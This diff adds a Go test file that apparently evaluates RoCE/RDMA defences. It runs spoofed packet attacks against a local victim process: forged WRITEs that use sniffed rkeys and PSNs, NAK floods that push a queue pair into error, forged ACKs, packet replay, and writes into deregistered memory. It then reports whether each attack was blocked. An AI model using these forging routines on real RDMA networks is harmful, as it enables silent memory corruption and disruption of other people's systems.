@@ -1,0 +1,303 @@
+package attack
+
+import (
+	"bytes"
+	"fmt"
+	"net/netip"
+	"time"
+
+	"github.com/ibex-rdma/ibex/ib"
+	"github.com/ibex-rdma/ibex/verbs"
+	"github.com/ibex-rdma/ibex/wire"
+)
+
+// failed is the outcome of a case that could not be carried out: the
+// victim did not start or answer. It counts as a mismatch with any
+// expectation, so a broken run never passes for a defence.
+func failed(what string, err error) (Outcome, string) {
+	return "error", fmt.Sprintf("%s: %s", what, firstLine(err.Error()))
+}
+
+func isWrite(x *Seen) bool {
+	switch x.BTH.Opcode {
+	case ib.RCWriteOnly, ib.RCWriteFirst, ib.RCWriteOnlyImm:
+		return true
+	}
+	return false
+}
+
+func from(src, dst netip.Addr) func(*Seen) bool {
+	return func(x *Seen) bool { return x.Src.Addr() == src && x.Dst.Addr() == dst }
+}
+
+// last returns the latest packet from index i on that match accepts.
+func (s *Suite) last(i int, match func(*Seen) bool) (Seen, bool) {
+	got, _ := s.sn.Since(i)
+	for k := len(got) - 1; k >= 0; k-- {
+		if match(&got[k]) {
+			return got[k], true
+		}
+	}
+	return Seen{}, false
+}
+
+// send sends p to dst: spoofed from src, or from the attacker's own address.
+func (s *Suite) send(p *wire.Packet, spoof bool, src, dst netip.AddrPort) error {
+	if spoof {
+		return s.raw.Spoof(p, src, dst)
+	}
+	return s.udp.Send(p, dst)
+}
+
+// waitWrites waits until the pair victim has completed n more checked
+// WRITEs (or stopped making progress) and returns its status.
+func waitWrites(v *proc, n int) (Status, error) {
+	st, err := v.ask(command{Cmd: "status"})
+	if err != nil {
+		return st, err
+	}
+	goal := st.Writes + st.Lost + n
+	deadline := time.Now().Add(3 * time.Second)
+	for st.Writes+st.Lost < goal && st.StateA != verbs.QPSErr.String() && time.Now().Before(deadline) {
+		time.Sleep(10 * time.Millisecond)
+		if st, err = v.ask(command{Cmd: "status"}); err != nil {
+			return st, err
+		}
+	}
+	return st, nil
+}
+
+func damage(st Status) (Outcome, string) {
+	d := fmt.Sprintf("victim: %d writes checked, %d lost silently, %d slots reverted, canary changed %v, QP A %s, B %s",
+		st.Writes, st.Lost, st.Reverted, st.Canary, st.StateA, st.StateB)
+	if st.Lost > 0 || st.Reverted > 0 || st.Canary {
+		return Succeeded, d
+	}
+	return Blocked, d
+}
+
+// inject forges a WRITE into the pair victim's responder at the PSN it
+// expects next, with the rkey and address sniffed from its legitimate
+// WRITEs, while the stream pauses, then lets the stream go on.
+func (s *Suite) inject(spoof bool) (Outcome, string) {
+	mark := s.sn.Mark()
+	v, err := s.startVictim(nil, "--mode", "pair")
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	if _, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(AddrA, AddrB)(x) && isWrite(x) }); !ok {
+		return Blocked, "no WRITE seen from the victim"
+	}
+	if _, err := v.ask(command{Cmd: "pause"}); err != nil {
+		return failed("pause", err)
+	}
+	time.Sleep(20 * time.Millisecond) // the sniffer catches up
+	w, ok := s.last(mark, from(AddrA, AddrB))
+	if !ok || !isWrite(&w) {
+		return Blocked, "the victim's last packet is not a WRITE"
+	}
+	if !w.Decoded {
+		return Blocked, fmt.Sprintf("sniffed WRITE not readable (secured: %v): no rkey or address learnt", secured(&w))
+	}
+	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: w.BTH.PKey, DestQP: w.BTH.DestQP, AckReq: true, PSN: ib.PSNAdd(w.BTH.PSN, 1)},
+		RETH: wire.RETH{VA: w.Packet.RETH.VA, RKey: w.Packet.RETH.RKey, DMALen: slotLen}, Payload: bytes.Repeat([]byte{0xa5}, slotLen)}
+	if err := s.send(&p, spoof, w.Src, w.Dst); err != nil {
+		return failed("forge", err)
+	}
+	time.Sleep(20 * time.Millisecond)
+	if _, err := v.ask(command{Cmd: "resume"}); err != nil {
+		return failed("resume", err)
+	}
+	st, err := waitWrites(v, 2*slots)
+	if err != nil {
+		return failed("status", err)
+	}
+	return damage(st)
+}
+
+// peerOfA learns, from an ACK the responder sent, the requester's QPN and
+// the responder's source port.
+func (s *Suite) peerOfA(mark int) (qpn uint32, b netip.AddrPort, ok bool) {
+	ack, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool {
+		return from(AddrB, AddrA)(x) && x.BTH.Opcode == ib.RCAck
+	})
+	return ack.BTH.DestQP, ack.Src, ok
+}
+
+// nak sprays NAKs (remote access error) at the live requester for the
+// latest PSN it sent and the next one, for up to two seconds.
+func (s *Suite) nak(spoof bool) (Outcome, string) {
+	mark := s.sn.Mark()
+	v, err := s.startVictim(nil, "--mode", "pair")
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	qpn, b, ok := s.peerOfA(mark)
+	if !ok {
+		return Blocked, "no ACK seen: the requester's QPN not learnt"
+	}
+	a := netip.AddrPortFrom(AddrA, wire.UDPPort)
+	sent := 0
+	end := time.Now().Add(2 * time.Second)
+	nextAsk := time.Now()
+	var st Status
+	for time.Now().Before(end) {
+		w, ok := s.last(mark, func(x *Seen) bool { return from(AddrA, AddrB)(x) && x.BTH.Opcode.Has(ib.MaskRequest) })
+		if ok {
+			for _, psn := range []uint32{w.BTH.PSN, ib.PSNAdd(w.BTH.PSN, 1)} {
+				p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCAck, PKey: w.BTH.PKey, DestQP: qpn, PSN: psn},
+					AETH: wire.AETH{Syndrome: ib.SynNAKRemoteAccess, MSN: 0}}
+				if err := s.send(&p, spoof, b, a); err != nil {
+					return failed("forge", err)
+				}
+				sent++
+			}
+		}
+		time.Sleep(100 * time.Microsecond)
+		if time.Now().After(nextAsk) {
+			if st, err = v.ask(command{Cmd: "status"}); err != nil {
+				return failed("status", err)
+			}
+			if st.StateA == verbs.QPSErr.String() {
+				return Succeeded, fmt.Sprintf("requester QP in ERR after %d NAKs: %s", sent, st.LastErr)
+			}
+			nextAsk = time.Now().Add(50 * time.Millisecond)
+		}
+	}
+	return Blocked, fmt.Sprintf("%d NAKs in 2s; requester QP %s, %d writes checked, %d errors", sent, st.StateA, st.Writes, st.Errors)
+}
+
+// ack makes the victim's responder drop everything, waits for the WRITE
+// the requester then sends, and acknowledges it with a forged ACK at its
+// PSN plus off.
+func (s *Suite) ack(spoof bool, off int) (Outcome, string) {
+	mark := s.sn.Mark()
+	v, err := s.startVictim(nil, "--mode", "pair")
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	qpn, b, ok := s.peerOfA(mark)
+	if !ok {
+		return Blocked, "no ACK seen: the requester's QPN not learnt"
+	}
+	if _, err := v.ask(command{Cmd: "hole"}); err != nil {
+		return failed("hole", err)
+	}
+	// The hole's WRITE is the first request after the stream's last ACK.
+	time.Sleep(10 * time.Millisecond)
+	lastAck, ok := s.last(mark, func(x *Seen) bool { return from(AddrB, AddrA)(x) })
+	if !ok {
+		return Blocked, "no ACK seen"
+	}
+	w, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool {
+		return from(AddrA, AddrB)(x) && x.BTH.Opcode.Has(ib.MaskRequest) && ib.PSNDiff(x.BTH.PSN, lastAck.BTH.PSN) > 0
+	})
+	if !ok {
+		return Blocked, "the unanswered WRITE not seen"
+	}
+	a := netip.AddrPortFrom(AddrA, wire.UDPPort)
+	var st Status
+	for i := 0; i < 3; i++ {
+		for _, d := range []int{off, -off} {
+			p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCAck, PKey: w.BTH.PKey, DestQP: qpn, PSN: ib.PSNAdd(w.BTH.PSN, d)},
+				AETH: wire.AETH{Syndrome: ib.SynACK, MSN: 1}}
+			if err := s.send(&p, spoof, b, a); err != nil {
+				return failed("forge", err)
+			}
+			if off == 0 {
+				break
+			}
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	for st.Hole == "" && time.Now().Before(deadline) {
+		if st, err = v.ask(command{Cmd: "status"}); err != nil {
+			return failed("status", err)
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	d := fmt.Sprintf("the WRITE to the silent peer completed: %q", st.Hole)
+	if st.Hole == verbs.WCSuccess.String() {
+		return Succeeded, d
+	}
+	return Blocked, d
+}
+
+// replay captures legitimate WRITEs, waits until their slots were written
+// again, and sends the captured packets again byte for byte.
+func (s *Suite) replay() (Outcome, string) {
+	mark := s.sn.Mark()
+	v, err := s.startVictim(nil, "--mode", "pair")
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	var caught []Seen
+	i := mark
+	for len(caught) < 2*slots {
+		w, next, ok := s.sn.Wait(i, 3*time.Second, func(x *Seen) bool { return from(AddrA, AddrB)(x) && x.BTH.Opcode.Has(ib.MaskRequest) })
+		if !ok {
+			return Blocked, fmt.Sprintf("only %d WRITEs captured", len(caught))
+		}
+		caught, i = append(caught, w), next
+	}
+	if _, err := waitWrites(v, 2*slots); err != nil {
+		return failed("status", err)
+	}
+	for _, w := range caught {
+		if err := s.raw.SendIP(w.IP); err != nil {
+			return failed("replay", err)
+		}
+	}
+	st, err := waitWrites(v, 2*slots)
+	if err != nil {
+		return failed("status", err)
+	}
+	o, d := damage(st)
+	return o, fmt.Sprintf("%d packets replayed; %s", len(caught), d)
+}
+
+// dereg learns the responder's rkey and address, has it deregister the MR
+// while the stream pauses, and writes there with a spoofed WRITE at the
+// expected PSN.
+func (s *Suite) dereg() (Outcome, string) {
+	mark := s.sn.Mark()
+	v, err := s.startVictim(nil, "--mode", "pair")
+	if err != nil {
+		return failed("victim", err)
+	}
+	defer v.stop()
+	if _, _, ok := s.sn.Wait(mark, 3*time.Second, func(x *Seen) bool { return from(AddrA, AddrB)(x) && isWrite(x) }); !ok {
+		return Blocked, "no WRITE seen from the victim"
+	}
+	if _, err := v.ask(command{Cmd: "dereg"}); err != nil {
+		return failed("dereg", err)
+	}
+	time.Sleep(20 * time.Millisecond)
+	w, ok := s.last(mark, from(AddrA, AddrB))
+	if !ok || !isWrite(&w) {
+		return Blocked, "the victim's last packet is not a WRITE"
+	}
+	if !w.Decoded {
+		return Blocked, fmt.Sprintf("sniffed WRITE not readable (secured: %v): no rkey or address learnt", secured(&w))
+	}
+	p := wire.Packet{BTH: wire.BTH{Opcode: ib.RCWriteOnly, PKey: w.BTH.PKey, DestQP: w.BTH.DestQP, AckReq: true, PSN: ib.PSNAdd(w.BTH.PSN, 1)},
+		RETH: wire.RETH{VA: w.Packet.RETH.VA, RKey: w.Packet.RETH.RKey, DMALen: slotLen}, Payload: bytes.Repeat([]byte{0x5a}, slotLen)}
+	if err := s.raw.Spoof(&p, w.Src, w.Dst); err != nil {
+		return failed("forge", err)
+	}
+	time.Sleep(50 * time.Millisecond)
+	st, err := v.ask(command{Cmd: "status"})
+	if err != nil {
+		return failed("status", err)
+	}
+	d := fmt.Sprintf("deregistered memory changed: %v; responder QP %s", st.Freed, st.StateB)
+	if st.Freed {
+		return Succeeded, d
+	}
+	return Blocked, d
+}
